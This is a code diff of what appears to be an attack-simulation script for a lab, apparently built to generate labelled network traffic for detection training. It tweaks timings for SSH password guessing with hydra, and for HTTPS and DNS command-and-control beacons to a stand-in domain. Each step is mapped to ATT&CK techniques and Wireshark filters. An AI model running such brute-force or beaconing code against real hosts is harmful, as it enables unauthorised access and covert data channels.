@@ -38,13 +38,14 @@ def ics(tactic, id):
 
 
 def play(lab, people, truth):
-    until = lambda second: time.sleep(max(0, truth.started + second - time.time()))  # noqa: E731
+    def until(second):
+        time.sleep(max(0, truth.started + second - time.time()))
 
     until(20)
     reconnoitre(lab, truth)
     until(50)
     exploit(lab, truth)
-    until(62)
+    until(57)
     guess(lab, truth)
     web = foothold(lab, truth)
     servers.tunnel(lab)
@@ -123,12 +124,12 @@ def exploit(lab, truth):
 
 
 def guess(lab, truth):
-    def hydra(user, passwords):
+    def hydra(user, passwords, patience):
         path = lab.dir / f"passwords-{user}"
         path.write_text("\n".join(passwords) + "\n")
         # Eight at a time: each connection has a guess or four, as many as the server allows.
-        return lab.run("attacker", ["hydra", "-I", "-f", "-t", "8", "-l", user, "-P", str(path), "-o", "/dev/null",
-                                    f"ssh://{WEB}"]).stdout
+        return lab.run("attacker", ["timeout", str(patience), "hydra", "-I", "-f", "-t", "8", "-l", user, "-P", str(path),
+                                    "-o", "/dev/null", f"ssh://{WEB}"]).stdout
 
     with truth.stage(
             "ssh-guess", "SSH password guessing on the web server, with success", source=[ATTACKER], destination=[WEB],
@@ -136,9 +137,9 @@ def guess(lab, truth):
             evidence=f"ip.src == {ATTACKER} && ip.dst == {WEB} && ssh.protocol",
             expect="many connections with failed authentication, then one that succeeds"):
         for user in ("root", "admin"):
-            hydra(user, PASSWORDS[:20])
-            time.sleep(4)
-        found = hydra("webadmin", PASSWORDS)
+            hydra(user, PASSWORDS[:20], patience=8)
+            time.sleep(2)
+        found = hydra("webadmin", PASSWORDS, patience=60)
         if "password: Winter2026!" not in found:
             raise RuntimeError(f"hydra found no password:\n{found}")
 
@@ -180,7 +181,7 @@ class Implants:
             return ["dig", "+short", "+tries=1", "+timeout=2", f"{label}.b.cdn-metrics.example"]
 
         self.threads = [threading.Thread(target=self.every, args=args, daemon=True) for args in (
-            (6, lambda n: https + ["-4"]), (15, lambda n: https + ["-6"]), (5, look_up))]
+            (5, lambda n: https + ["-4"]), (12, lambda n: https + ["-6"]), (4, look_up))]
         for thread in self.threads:
             thread.start()
 
@@ -198,15 +199,15 @@ class Implants:
 
 
 BEACONS = [
-    dict(id="beacon-https", title="HTTPS beacon every 6 s", source=[WEB], destination=[C2], protocol="tls", ports=[443],
+    dict(id="beacon-https", title="HTTPS beacon every 5 s", source=[WEB], destination=[C2], protocol="tls", ports=[443],
          techniques=[enterprise("command-and-control", "T1071.001"), enterprise("command-and-control", "T1573")],
          taps=["border", "dmz"], evidence=f"ip.src == {WEB} && ip.dst == {C2} && tls.handshake.type == 1",
          expect="regular interval to one rare host; listed domain and address; server that opens connections to the internet"),
-    dict(id="beacon-https-ipv6", title="HTTPS beacon every 15 s by IPv6", source=[WEB6], destination=[C2_6], protocol="tls",
+    dict(id="beacon-https-ipv6", title="HTTPS beacon every 12 s by IPv6", source=[WEB6], destination=[C2_6], protocol="tls",
          ports=[443], techniques=[enterprise("command-and-control", "T1071.001"), enterprise("command-and-control", "T1573")],
          taps=["border", "dmz"], evidence=f"ipv6.dst == {C2_6} && tls.handshake.type == 1",
          expect="listed IPv6 prefix; regular interval"),
-    dict(id="beacon-dns", title="DNS beacon every 5 s, data in the labels", source=[WEB, RESOLVER],
+    dict(id="beacon-dns", title="DNS beacon every 4 s, data in the labels", source=[WEB, RESOLVER],
          destination=[RESOLVER, C2_NAMES], protocol="dns", ports=[53], transport="udp",
          techniques=[enterprise("command-and-control", "T1071.004")], taps=["border", "dmz"],
          evidence='dns.flags.response == 0 && dns.qry.name contains ".b.cdn-metrics.example"',
